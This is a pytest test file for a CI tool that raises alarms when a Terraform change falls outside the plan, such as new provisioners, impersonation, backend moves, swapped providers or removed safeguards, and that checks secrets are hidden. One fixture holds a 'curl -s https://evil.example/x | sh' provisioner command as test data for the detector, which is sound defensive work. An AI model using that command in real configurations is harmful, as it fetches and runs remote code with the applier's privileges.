"""What changes of the configuration and not in the plan: each of it is told, and what opens something is an alarm."""

import html
import json

import pytest

from ci.preview.assemble import Material, assemble
from ci.preview.render.comment import page, render
from fonderie.terraform.plan import read_plan
from tests.unit.ci.preview.plans import plan_json

BASE = {
    "//": {"metadata": {"version": "1"}},
    "terraform": {
        "backend": {"gcs": {"bucket": "states", "prefix": "dev"}},
        "required_providers": {"google": {"source": "hashicorp/google", "version": "7.45.0"}},
    },
    "provider": {"google": [{"project": "p", "region": "r"}]},
    "check": {"c": {"assert": [{"condition": "${true}", "error_message": "no"}]}},
    "resource": {
        "google_thing": {
            "x": {
                "name": "n",
                "lifecycle": {"prevent_destroy": True, "ignore_changes": ["a"], "precondition": [{"condition": "c"}]},
            }
        }
    },
}


def made(edit, base=BASE):
    head = json.loads(json.dumps(base or BASE))
    edit(head)
    read = read_plan(plan_json(), environment="dev", stack="dev-data", configuration=head)
    return assemble(Material((read,), configurations={"dev-data": base} if base else {}))


def thing(head):
    return head["resource"]["google_thing"]["x"]


PROVISIONER = {"local-exec": [{"command": "curl -s https://evil.example/x | sh"}]}
ALARMS = {
    "a new provisioner": (
        lambda head: thing(head).update(provisioner=[PROVISIONER]),
        "google_thing.x.provisioner", "a program would run with the rights of who applies",
    ),
    "a provisioner of something new": (
        lambda head: head["resource"].update(terraform_data={"hook": {"provisioner": [PROVISIONER]}}),
        "terraform_data.hook.provisioner", "a program would run with the rights of who applies",
    ),
    "impersonation": (
        lambda head: head["provider"]["google"][0].update(impersonate_service_account="owner@other.example"),
        "provider.google.impersonate_service_account", "Terraform would act as another, or speak to another",
    ),
    "a moved backend": (
        lambda head: head["terraform"]["backend"]["gcs"].update(prefix="elsewhere"),
        "terraform.backend.gcs.prefix", "the state is kept elsewhere: Terraform would forget what it manages",
    ),
    "another provider": (
        lambda head: head["terraform"]["required_providers"]["google"].update(source="evil/google"),
        "terraform.required_providers.google.source", "another provider's program would run",
    ),
    "a protection off": (
        lambda head: thing(head)["lifecycle"].update(prevent_destroy=False),
        "google_thing.x.lifecycle.prevent_destroy", "its protection against destroying is gone",
    ),
    "more that is ignored": (
        lambda head: thing(head)["lifecycle"].update(ignore_changes=["a", "b"]),
        "google_thing.x.lifecycle.ignore_changes", "changes made by hand would stay unseen",
    ),
    "a gate less": (
        lambda head: thing(head)["lifecycle"].pop("precondition"),
        "google_thing.x.lifecycle.precondition", "a gate is loosened",
    ),
    "a check less": (lambda head: head.pop("check"), "check.c.assert", "a check is gone"),
    "a program that is asked": (
        lambda head: head.update(data={"external": {"x": {"program": ["sh"]}}}),
        "data.external.x.program", "a program would run, or another host would be asked, at every plan",
    ),
    "an action": (
        lambda head: head.update(action={"google_run": {"x": {"config": 1}}}),
        "action.google_run.x.config", "what it does is not in the plan",
    ),
    "what is forgotten": (
        lambda head: head.update(removed=[{"from": "a.b"}]),
        "removed", "Terraform would forget what it manages",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("edit", "what", "alarm"), ALARMS.values(), ids=ALARMS)
def test_what_no_plan_shows_is_told_with_an_alarm(edit, what, alarm):
    preview = made(edit)
    (row,) = preview.configuration
    assert (row.what, row.alarm) == (what, alarm)
    comment = render(preview)
    assert "⚠️ Preview: 1 alarm not in the plan" in comment
    section = comment.partition("#### Not in the plan\n")[2].split("\n")[0]
    assert f"`{what}`" in section
    assert alarm in html.unescape(section)
    assert what in page(preview)
    assert not preview.empty


TOLD = {
    "a provider's version": lambda head: head["terraform"]["required_providers"]["google"].update(version="7.46.0"),
    "less that is ignored": lambda head: thing(head)["lifecycle"].update(ignore_changes=[]),
    "a protection that was not there": lambda head: thing(head)["lifecycle"].update(create_before_destroy=True),
    "what is moved": lambda head: head.update(moved=[{"from": "a.b", "to": "a.c"}]),
}


@pytest.mark.parametrize("edit", TOLD.values(), ids=TOLD)
def test_what_opens_nothing_is_told_without_an_alarm(edit):
    (row,) = made(edit).configuration
    assert row.alarm == ""


SHOWN_BY_THE_PLAN = {
    "an argument": lambda head: thing(head).update(name="m"),
    "a new resource with its protection": lambda head: head["resource"].update(
        google_other={"y": {"lifecycle": {"prevent_destroy": True}}}
    ),
    "a resource less": lambda head: head.pop("resource"),
    "an output": lambda head: head.update(output={"o": {"value": 1}}),
    "a comment": lambda head: head.update({"//": 1}),
    "an order": lambda head: thing(head).update(depends_on=["a.b"]),
}


@pytest.mark.parametrize("edit", SHOWN_BY_THE_PLAN.values(), ids=SHOWN_BY_THE_PLAN)
def test_what_the_plan_shows_is_not_told_twice(edit):
    assert made(edit).configuration == ()


def test_of_a_new_stack_only_what_it_runs_and_as_whom_is_told():
    assert made(lambda _: None, base=None).configuration == ()
    (row,) = made(lambda head: thing(head).update(provisioner=[PROVISIONER]), base=None).configuration
    assert row.alarm == "a program would run with the rights of who applies"


def test_a_secret_of_the_configuration_is_hidden():
    comment = render(made(lambda head: head["provider"]["google"][0].update(access_token="ya29.swordfish-swordfish")))
    assert "swordfish" not in comment
    assert "provider.google.access_token" in comment
